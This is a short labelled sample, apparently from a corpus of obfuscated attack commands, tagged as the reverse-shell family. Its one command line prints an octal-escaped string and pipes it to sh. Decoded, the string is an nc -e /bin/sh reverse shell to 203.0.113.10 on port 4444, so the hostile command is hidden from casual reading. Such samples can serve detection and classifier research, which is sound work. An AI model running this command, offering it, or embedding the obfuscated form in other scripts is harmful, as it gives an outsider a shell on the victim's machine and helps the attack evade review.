# description: Prints an nc -e reverse shell in octal escapes and pipes it to sh.
# family: reverse-shell
# obfuscated: yes
printf '\156\143\040\055\145\040\057\142\151\156\057\163\150\040\062\060\063\056\060\056\061\061\063\056\061\060\040\064\064\064\064' | sh
